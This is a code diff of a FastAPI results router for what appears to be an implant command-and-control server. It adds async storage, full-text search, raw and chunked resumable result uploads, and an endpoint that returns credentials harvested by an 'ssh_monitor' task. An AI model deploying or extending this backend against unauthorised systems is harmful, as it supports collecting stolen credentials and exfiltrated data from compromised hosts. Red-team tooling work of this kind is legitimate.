@@ -1,44 +1,137 @@
 import base64
 import binascii
 from datetime import datetime, timezone
-from typing import List
+from functools import partial
+from pathlib import Path
+from typing import Annotated, List, Optional
+from urllib.parse import quote
 
-from fastapi import APIRouter, HTTPException, Depends, Security
+from anyio import to_thread
+from fastapi import APIRouter, HTTPException, Depends, Header, Query, Request, Security
+from fastapi.responses import FileResponse, Response
+from sqlalchemy import Integer, and_, cast, func, literal, select, update
+from sqlalchemy.exc import OperationalError
 
+from server.server_helper.archive_helper import archive
 from server.server_helper.auth_helper import oauth2_scheme, verify_token
-from server.server_helper.db import get_db, SessionLocal
-from server.server_helper.implant_helper import Implant
+from server.server_helper.blob_helper import (
+    blobs,
+    decode_transport,
+    offload_download_results,
+    offload_raw_file,
+    offload_raw_results,
+    offload_spooled_results,
+)
+from server.server_helper.body_helper import read_spooled_json, spool_body, validate_body
+from server.server_helper.column_helper import EpochMicros
+from server.server_helper.db import get_async_db, AsyncSessionLocal
+from server.server_helper.events_helper import events, RESULT_ARRIVED
+from server.server_helper.implant_helper import Implant, next_checkin_sql
+from server.server_helper.registry_helper import registry
 from server.server_helper.tasking_helper import Tasking
 from server.server_helper.results_helper import Results, ResultsCreate, ResultsRead, ResultsCreds
+from server.server_helper.search_helper import (
+    SearchHit,
+    SearchQuery,
+    index_result,
+    query_error,
+    search_statement,
+    searchable_text,
+)
+from server.server_helper.transfer_helper import TransferState, transfers
+from server.server_helper.writer_helper import insert_row, writer
 
 router = APIRouter(prefix="/results", tags=["results"])
 
+# PROTECTED endpoint for clients to find the results containing a string, across every session
+@router.get("/search", response_model=List[SearchHit])
+async def search_results(
+    query: Annotated[SearchQuery, Query()],
+    db: AsyncSessionLocal = Depends(get_async_db),  # type: ignore
+    token: str = Security(oauth2_scheme),
+):
+    """
+    Full-text search over the decoded text of the results still in sqlite, downloads and payloads in
+    the blob store are not indexed
+    :param query: The search and pagination query parameters (q, session, after_id, limit, order, mark_open, mark_close)
+    :param db: The connection to the database
+    :param token: The jwt authentication token used to auth to lighthouse
+    :return: A page of matching results with a highlighted snippet, 400 if q is not a valid fts5 query,
+    422 if its brackets don't pair up
+    """
+    verify_token(token)
+    try:
+        return (await db.execute(search_statement(query))).mappings().all()
+    except OperationalError as e:
+        # fts5 parses q when the statement runs, a locked or broken database is not a bad query
+        if not query_error(str(e.orig)):
+            raise
+        raise HTTPException(status_code=400, detail=f"Invalid search query: {e.orig}") from e
+
+
 # PROTECTED endpoint for clients to retrieve all gathered creds based on session id
 @router.get("/{session}/creds", response_model=List[ResultsCreds])
-def get_creds(
+async def get_creds(
     session: str,
-    db: SessionLocal = Depends(get_db),  # type: ignore
+    db: AsyncSessionLocal = Depends(get_async_db),  # type: ignore
     token: str = Security(oauth2_scheme)
 ):
     verify_token(token)
-    db_implant = db.query(Implant).filter(Implant.session == session).first()
-    if not db_implant:
+    if await registry.lookup(session, db) is None:
         raise HTTPException(status_code=404, detail="Session not found")
     db_result = (
-        db.query(Results)
-        .filter(Results.session == session, Results.task == "ssh_monitor").all()
-    )
+        await db.scalars(
+            select(Results).where(Results.session == session, Results.task == "ssh_monitor")
+        )
+    ).all()
     if db_result is None:
         raise HTTPException(status_code=416, detail="Result out of range")
     return db_result
 
 
+# PROTECTED endpoint for clients to retrieve the raw result bytes of a tasking, no hex / base64 layers.
+# declared before /{session}/{id} so /v2/... is not taken for a session named v2
+@router.get("/v2/{session}/{id}", response_class=Response)
+async def read_result_raw(
+    session: str,
+    id: int,
+    db: AsyncSessionLocal = Depends(get_async_db),  # type: ignore
+    token: str = Security(oauth2_scheme),
+):
+    """
+    Provide the result of a tasking as application/octet-stream, the row fields travel as X- headers
+    :param session: The session id of the agent the result belongs to
+    :param id: The tasking id of the result
+    :param db: The connection to the database
+    :param token: The jwt authentication token used to auth to lighthouse
+    :return: The raw result (for downloads the agent's gzip stream), 404 if the session is not found,
+    416 if there is no result for the tasking
+    """
+    verify_token(token)
+    if await registry.lookup(session, db) is None:
+        raise HTTPException(status_code=404, detail="Session not found")
+    db_result = await find_result(session, id, db)
+    headers = {
+        "X-Task": db_result.task or "",
+        "X-Args": quote(db_result.args or ""),
+        "X-Date": db_result.date or "",
+    }
+    if db_result.blob_ref is None:
+        return Response(inline_payload(db_result.results), media_type="application/octet-stream", headers=headers)
+    if not blobs.exists(db_result.blob_ref):
+        raise HTTPException(status_code=404, detail="Blob not found")
+    if db_result.task != "download":
+        # stored as gzip(payload), the client's http stack undoes it
+        headers["Content-Encoding"] = "gzip"
+    return FileResponse(blobs.path(db_result.blob_ref), media_type="application/octet-stream", headers=headers)
+
+
 # PROTECTED endpoint for clients to retrieve result based on session id and tasking id
 @router.get("/{session}/{id}", response_model=ResultsRead)
-def read_result(
+async def read_result(
     session: str,
     id: int,
-    db: SessionLocal = Depends(get_db),  # type: ignore
+    db: AsyncSessionLocal = Depends(get_async_db),  # type: ignore
     token: str = Security(oauth2_scheme),
 ):
     """
@@ -50,74 +143,344 @@ def read_result(
     :return db_result: The result of the tasking provided back in json format
     """
     verify_token(token)
-    db_implant = db.query(Implant).filter(Implant.session == session).first()
-    if not db_implant:
+    if await registry.lookup(session, db) is None:
         raise HTTPException(status_code=404, detail="Session not found")
-    db_result = (
-        db.query(Results)
-        .filter(Results.session == session, Results.tasking_id == id)
-        .first()
-    )
-    if db_result is None:
-        raise HTTPException(status_code=416, detail="Result out of range")
+    db_result = await find_result(session, id, db)
     return db_result
 
-# recieve tasking output from agent based on session id, marks task complete = True
-@router.post("/{session}", response_model=ResultsCreate)
-def create_results(
-    session: str, results: ResultsCreate, db: SessionLocal = Depends(get_db)  # type: ignore
+# PROTECTED endpoint for clients to stream a result payload kept in the blob store (gzip)
+@router.get("/{session}/{id}/blob")
+async def read_result_blob(
+    session: str,
+    id: int,
+    db: AsyncSessionLocal = Depends(get_async_db),  # type: ignore
+    token: str = Security(oauth2_scheme),
+):
+    """
+    Stream the gzip payload of a result straight from disk, the server never holds the whole file
+    :param session: The session id of the agent the result belongs to
+    :param id: The tasking id of the result
+    :param db: The connection to the database
+    :param token: The jwt authentication token used to auth to lighthouse
+    :return: The gzip stream, 404 if the result has no payload in the blob store
+    """
+    verify_token(token)
+    blob_ref = await db.scalar(
+        select(Results.blob_ref).where(Results.session == session, Results.tasking_id == id)
+    )
+    if blob_ref is None or not blobs.exists(blob_ref):
+        raise HTTPException(status_code=404, detail="Blob not found")
+    return FileResponse(blobs.path(blob_ref), media_type="application/gzip")
+
+
+# recieve tasking output from agent based on session id, marks task complete = True.
+# the body is read by hand so a large one can be spooled to disk, the schema is still documented
+@router.post(
+    "/{session}",
+    response_model=ResultsCreate,
+    openapi_extra={"requestBody": {"content": {"application/json": {"schema": ResultsCreate.model_json_schema()}}}},
+)
+async def create_results(
+    session: str, request: Request, db: AsyncSessionLocal = Depends(get_async_db)  # type: ignore
 ):
     """
     The endpoint where agents will send result output back to the lighthouse server
     :param session: The session id tied to the results being sent
-    :param results: The results of the provided tasking
+    :param request: The request, its json body is a ResultsCreate
     :param db: The db connection to the sqlite database
     :return db_task: The successful tasking result or 404 if the session is not found
     or 400 if the results are not properly formatted
     """
+    body = await spool_body(request)
+    if isinstance(body, Path):
+        return await create_spooled_results(session, body, db)
+    results = validate_body(ResultsCreate, body)
+    results_data = results.model_dump(exclude={"session", "date"})
+    results_data["args"] = decode_args(results.args)
+    offload = None
+    if results_data["task"] == "download":
+        # large downloads go to the blob store, the row keeps the reference
+        offload = partial(offload_download_results, results_data["results"])
+    return await record_result(session, results_data, offload, db)
+
+
+async def create_spooled_results(session: str, body: Path, db) -> Results:
+    """
+    create_results for a body spooled to disk, the results text is streamed out of the json and
+    decoded to a file, none of it is held in memory
+    :param session: The session id tied to the results being sent
+    :param body: The spooled json body, removed here
+    :param db: The active async database session
+    :return db_task: The stored result row
+    """
+    results_path = None
+    try:
+        results, results_path = await to_thread.run_sync(read_spooled_json, ResultsCreate, body, "results")
+        body.unlink()
+        results_data = results.model_dump(exclude={"session", "date"})
+        results_data["args"] = decode_args(results.args)
+        offload = partial(offload_spooled_results, results.task, results_path)
+        return await record_result(session, results_data, offload, db)
+    finally:
+        body.unlink(missing_ok=True)
+        if results_path is not None:
+            results_path.unlink(missing_ok=True)
+
+
+# recieve raw tasking output (application/octet-stream body) from agent, marks task complete = True
+@router.post("/v2/{session}/{tasking_id}", response_model=ResultsCreate)
+async def create_results_raw(
+    session: str,
+    tasking_id: int,
+    request: Request,
+    task: str = Query(...),
+    args: str = Query(""),
+    db: AsyncSessionLocal = Depends(get_async_db),  # type: ignore
+):
+    """
+    Binary variant of create_results, the body is the raw output and args are plain text, nothing is
+    hex / base64 encoded on the way in
+    :param session: The session id tied to the results being sent
+    :param tasking_id: The id of the tasking the results are for
+    :param request: The request, its body is the raw result
+    :param task: The task that produced the result
+    :param args: The args of the task
+    :param db: The db connection to the sqlite database
+    :return db_task: The stored result row or 404 if the session or task is not found
+    """
+    payload = await spool_body(request)
+    results_data = {"tasking_id": tasking_id, "task": task, "args": args, "results": ""}
+    if isinstance(payload, bytes):
+        return await record_result(session, results_data, partial(offload_raw_results, task, payload), db)
+    try:
+        return await record_result(session, results_data, partial(offload_raw_file, task, payload), db)
+    finally:
+        payload.unlink(missing_ok=True)
+
+
+# endpoint for agents to open a chunked, resumable upload of a result too large for one request
+@router.post("/v2/{session}/{tasking_id}/transfers", response_model=TransferState)
+async def open_transfer(
+    session: str,
+    tasking_id: int,
+    task: str = Query(...),
+    args: str = Query(""),
+    size: Optional[int] = Query(None, ge=0),
+    db: AsyncSessionLocal = Depends(get_async_db),  # type: ignore
+):
+    """
+    Start a chunked transfer of a raw result, the chunks follow as PUTs and a finalize stores the result
+    :param session: The session id tied to the results being sent
+    :param tasking_id: The id of the tasking the results are for
+    :param task: The task that produced the result
+    :param args: The args of the task
+    :param size: The total payload size, when given finalize refuses a short transfer
+    :param db: The db connection to the sqlite database
+    :return: The transfer id and its (empty) state or 404 if the session or task is not found
+    """
+    if await registry.lookup(session, db) is None:
+        raise HTTPException(status_code=404, detail="Session not found")
+    if await db.scalar(select(Tasking.id).where(Tasking.session == session, Tasking.id == tasking_id)) is None:
+        raise HTTPException(status_code=404, detail="Task not found")
+    state = TransferState(transfer_id="", session=session, tasking_id=tasking_id, task=task, args=args, size=size)
+    return await to_thread.run_sync(transfers.open, state)
+
+
+# endpoint for agents to find where an interrupted transfer resumes
+@router.get("/v2/{session}/transfers/{transfer_id}", response_model=TransferState)
+async def read_transfer(session: str, transfer_id: str):
+    """
+    Provide the acknowledged state of a transfer, the next chunk is number chunks at offset received
+    :param session: The session id the transfer belongs to
+    :param transfer_id: The id returned by open_transfer
+    :return: The transfer state or 404 if the transfer is not found
+    """
+    return transfers.load(session, transfer_id)
+
+
+def chunk_position(index: int, offset: int = Query(..., ge=0)) -> tuple[int, int]:
+    # the chunk number (path) and the byte offset it starts at (query)
+    return index, offset
+
+
+# endpoint for agents to send one numbered chunk of a transfer, the body is streamed to disk
+@router.put("/v2/{session}/transfers/{transfer_id}/{index}", response_model=TransferState)
+async def write_transfer_chunk(
+    session: str,
+    transfer_id: str,
+    request: Request,
+    position: tuple[int, int] = Depends(chunk_position),
+    checksum: str = Header(..., alias="X-Checksum"),
+):
+    """
+    Append a chunk to a transfer, a chunk already acknowledged is acknowledged again without writing
+    :param session: The session id the transfer belongs to
+    :param transfer_id: The id returned by open_transfer
+    :param request: The request, its body is the chunk
+    :param position: The chunk number (from 0) and its byte offset in the payload
+    :param checksum: The hex sha256 of the chunk (X-Checksum header)
+    :return: The updated state, 409 if the chunk is not the next one (the detail says which is),
+    400 on a checksum mismatch, 413 if it is over transfer_max_chunk or 404 if the transfer is not found
+    """
+    state = transfers.load(session, transfer_id)
+    # read the whole chunk before touching the transfer, the disk writes then happen on a worker thread
+    body = await spool_body(request, limit=transfers.max_chunk)
+    try:
+        return await transfers.write_chunk(state, position, checksum, body)
+    finally:
+        if isinstance(body, Path):
+            body.unlink(missing_ok=True)
+
+
+# endpoint for agents to finish a transfer, stores the result and marks the task complete
+@router.post("/v2/{session}/transfers/{transfer_id}/finalize", response_model=ResultsCreate)
+async def finalize_transfer(
+    session: str,
+    transfer_id: str,
+    checksum: str = Query(...),
+    db: AsyncSessionLocal = Depends(get_async_db),  # type: ignore
+):
+    """
+    Verify the assembled payload, move it into the blob store and record the result like create_results_raw
+    :param session: The session id the transfer belongs to
+    :param transfer_id: The id returned by open_transfer
+    :param checksum: The hex sha256 of the whole payload
+    :param db: The db connection to the sqlite database
+    :return db_task: The stored result row, also when the transfer was already finalized, 400 if the
+    payload does not match the checksum or 409 if it is shorter than the announced size
+    """
+    # one at a time with the chunks, a second finalize waits for the first to store the result
+    async with transfers.lock(transfer_id):
+        state = transfers.load(session, transfer_id)
+        if state.finalized:
+            # the sender lost the response and is finalizing again
+            return await find_result(session, state.tasking_id, db)
+        results_data = {"tasking_id": state.tasking_id, "task": state.task, "args": state.args, "results": ""}
+        db_task = await record_result(session, results_data, partial(transfers.finalize, state, checksum), db)
+        await to_thread.run_sync(transfers.finished, state)
+    return db_task
+
+
+async def record_result(session: str, results_data: dict, offload, db) -> Results:
+    """
+    Store a result and complete its task in one transaction, shared by the json and binary endpoints
+    :param session: The session id tied to the result
+    :param results_data: The results row values, args already decoded
+    :param offload: Optional callable returning the payload column values, run on a worker thread
+    once the session and task are known to exist
+    :param db: The active async database session
+    :return db_task: The stored result row or 404 if the session or task is not found
+    """
     current_time = datetime.now(timezone.utc).isoformat()
-    db_implant = db.query(Implant).filter(Implant.session == session).first()
-    if not db_implant:
+    # implant and task in one lookup, the write itself goes through the group commit writer
+    row = (
+        await db.execute(
+            select(Implant, Tasking)
+            .outerjoin(Tasking, and_(Tasking.session == Implant.session, Tasking.id == results_data["tasking_id"]))
+            .where(Implant.session == session)
+        )
+    ).first()
+    if row is None:
         raise HTTPException(status_code=404, detail="Session not found")
-    if results.args:
-        try:
-            args_bytes = bytes.fromhex(results.args)
-            decoded_args = base64.b64decode(args_bytes.decode("utf-8")).decode("utf-8")
-        except (binascii.Error, UnicodeDecodeError, ValueError) as e:
-            raise HTTPException(status_code=400, detail=f"Invalid encoded args: {e}")
-    else:
-        decoded_args = ""
-    results_data = results.model_dump(exclude={"session", "date"})
-    results_data["args"] = decoded_args
+    db_implant, db_tasking = row
 
-    if results_data["task"] == "reconfig":
-        update_callback_freq(session, results_data, db)
+    # with foreign keys on a result for an unknown task cannot be inserted
+    if db_tasking is None:
+        print("Task not found, cannot update completion status in the tasking table.")
+        raise HTTPException(status_code=404, detail="Task not found")
+
+    callback_freq = None
+    if results_data["task"] == "reconfig" and db_implant.alive:
+        callback_freq = results_data["args"].split(" ")[0]
+    if offload is not None:
+        results_data.update(await to_thread.run_sync(offload))
+    search_text = searchable_text(results_data["task"], results_data.get("results"), results_data.get("blob_ref"))
 
     # you will need to decode the results eventually
-    db_task = Results(**results_data, session=session, date=current_time)
-    db.add(db_task)
-    db.commit()
-    db.refresh(db_task)
-    # Mark the task as complete (break this out into its own function later)
-    db_tasking = (
-        db.query(Tasking)
-        .filter(Tasking.session == session, Tasking.id == results.tasking_id)
-        .first()
-    )
-    if db_tasking:
-        db_tasking.complete = "True"
-        db.commit()
-        db.refresh(db_tasking)
+    results_data.update(session=session, date=current_time)
+    db_task, lease_due = await writer.submit(partial(store_result, results_data, callback_freq, search_text))
+    if results_data["task"] == "reconfig":
+        # re-read on the next lookup, the agent supplied value is only coerced by sqlite
+        registry.forget(session)
     else:
-        print("Task not found, cannot update completion status in the tasking table.")
-        raise HTTPException(status_code=404, detail="Task not found")
+        # the task is no longer Pending, a lease_due left on it would send each check in to claim nothing
+        registry.update(session, lease_due=lease_due)
+    events.publish(RESULT_ARRIVED, session=session, tasking_id=db_task.tasking_id, task=db_task.task)
     return db_task
 
 
-def update_callback_freq(session: str, results_data: dict, db: SessionLocal = Depends(get_db)):  # type: ignore
-    new_callback_freq = results_data["args"].split(" ")[0]
-    implant = db.query(Implant).filter(Implant.session == session).first()
-    if implant is not None and implant.alive:
-        implant.callback_freq = new_callback_freq
-        db.commit()
-        db.refresh(implant)
\ No newline at end of file
+async def find_result(session: str, tasking_id: int, db) -> Results | ResultsRead:
+    """
+    The result of a tasking from sqlite, or from the cold archive once it has been moved there
+    :param session: The session id the result belongs to
+    :param tasking_id: The tasking id of the result
+    :param db: The active async database session
+    :return: The result row (or its archived copy), 416 if there is no result for the tasking
+    """
+    db_result = await db.scalar(
+        select(Results).where(Results.session == session, Results.tasking_id == tasking_id)
+    )
+    if db_result is None:
+        db_result = await to_thread.run_sync(archive.read, session, tasking_id)
+    if db_result is None:
+        raise HTTPException(status_code=416, detail="Result out of range")
+    return db_result
+
+
+def inline_payload(results: str | None) -> bytes:
+    # inline results are small, undo the legacy encoding here once instead of in every client
+    payload = decode_transport(results or "")
+    if payload is None:
+        return (results or "").encode("utf-8")
+    return payload
+
+
+def decode_args(encoded_args: str | None) -> str:
+    """
+    Agents ship args as hex(base64(args)), decode them for storage
+    :param encoded_args: The encoded args from the agent, may be empty
+    :return: The decoded args or 400 if they are not properly encoded
+    """
+    if not encoded_args:
+        return ""
+    try:
+        args_bytes = bytes.fromhex(encoded_args)
+        return base64.b64decode(args_bytes.decode("utf-8")).decode("utf-8")
+    except (binascii.Error, UnicodeDecodeError, ValueError) as e:
+        raise HTTPException(status_code=400, detail=f"Invalid encoded args: {e}")
+
+
+async def store_result(
+    results_data: dict, callback_freq: str | None, search_text: str | None, db
+) -> tuple[Results, str | None]:
+    """
+    The write of record_result, the result row, its search index entry, its task marked complete and
+    a reconfig's new callback_freq land in the same transaction
+    :param results_data: The results row values
+    :param callback_freq: The callback_freq a reconfig sets, None to leave the implant as it is
+    :param search_text: The decoded text to index, None if the result is not searchable
+    :param db: The writer's session
+    :return: The new results row and the earliest lease expiry of the session's tasks still Pending
+    """
+    db_task = await insert_row(Results, results_data, db)
+    if search_text:
+        await index_result(db_task.id, db_task.session, search_text, db)
+    await db.execute(
+        update(Tasking)
+        .where(Tasking.id == db_task.tasking_id)
+        .values(complete="True", lease_expires=None)
+    )
+    if callback_freq is not None:
+        # the reconfigured agent sleeps the new interval from now, the old next_checkin would be wrong
+        interval = cast(literal(callback_freq), Integer)
+        check_in = literal(results_data["date"], EpochMicros)
+        await db.execute(
+            update(Implant)
+            .where(Implant.session == db_task.session)
+            .values(callback_freq=callback_freq, next_checkin=next_checkin_sql(check_in, interval))
+        )
+    lease_due = await db.scalar(
+        select(func.min(Tasking.lease_expires))
+        .where(Tasking.session == db_task.session, Tasking.complete == "Pending")
+    )
+    return db_task, lease_due